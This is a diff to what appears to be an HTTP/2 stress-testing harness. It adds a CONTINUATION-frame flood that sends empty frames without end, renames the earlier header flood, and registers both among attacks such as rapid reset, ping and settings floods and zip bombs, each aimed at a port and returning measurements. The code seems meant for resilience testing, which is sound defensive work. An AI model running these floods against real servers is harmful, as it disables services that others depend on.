@@ -49,7 +49,18 @@ def rapid_reset(port, scale):
 
 
 def continuation_flood(port, scale):
-    """Headers without end."""
+    """Headers without end, of frames with nothing in them, which no size of headers bounds."""
+    connection = h2.Connection(port)
+    connection.send(h2.frame(h2.HEADERS, 0, 1, h2.call_headers(QUERY)))
+    frames = h2.frame(h2.CONTINUATION, 0, 1) * 1000
+    sent = 0
+    while sent < 5_000_000 * scale and connection.send(frames):
+        sent += 1000
+    return _facts(connection, frames=sent)
+
+
+def header_flood(port, scale):
+    """Headers without end, of frames full of them."""
     connection = h2.Connection(port)
     connection.send(h2.frame(h2.HEADERS, 0, 1, h2.call_headers(QUERY)))
     block = b"".join(h2.header(f"x-{i % 10}", "v" * 100) for i in range(140))
@@ -225,7 +236,7 @@ def connection_storm(port, scale):
 
 
 ATTACKS = {attack.__name__: attack for attack in (
-    rapid_reset, continuation_flood, big_string, settings_flood, ping_flood,
+    rapid_reset, continuation_flood, header_flood, big_string, settings_flood, ping_flood,
     bad_binary_header, zip_bomb, half_bodies, unread_streams, idle_connections,
     slow_handshakes, connection_storm)}
 
